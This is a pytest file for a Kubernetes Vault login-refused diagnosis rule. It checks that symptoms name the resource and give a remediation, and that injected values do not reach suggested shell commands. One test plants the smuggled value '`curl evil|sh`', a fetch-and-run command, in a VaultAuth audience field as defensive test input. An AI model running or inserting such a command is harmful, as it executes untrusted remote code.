"""The rule vso-login-refused."""

from __future__ import annotations

import pytest

from support.diagnosis.evidence import with_objects
from support.diagnosis.healthy_release import AUTH, refused_login
from support.diagnosis.rule_cases import Cases, assert_reported
from vrooli import shell
from vrooli.diagnosis.rules.vso import login_refused

CASES: Cases = {
    "another refusal": (
        str(AUTH),
        refused_login("permission denied", mounted=True),
    ),
}


@pytest.mark.parametrize("case", CASES)
def test_a_symptom_names_its_resource_and_remediation(case: str) -> None:
    assert_reported(login_refused.RULE, *CASES[case])


def test_the_audience_of_the_login_is_to_be_compared() -> None:
    (symptom,) = login_refused.RULE.find(refused_login("permission denied", mounted=True))
    assert "the role has the audience vault (`vault read auth/kubernetes/role/" in (
        symptom.remediation
    )


def test_an_audience_of_others_is_no_command() -> None:
    evidence = refused_login("permission denied", mounted=True)
    (login,) = evidence.all("VaultAuth")
    kubernetes = {**login["spec"]["kubernetes"], "audiences": ["`curl evil|sh`"]}
    login = {**login, "spec": {**login["spec"], "kubernetes": kubernetes}}
    (symptom,) = login_refused.RULE.find(with_objects(evidence, login))
    assert "`curl" not in shell.checked(symptom.remediation)
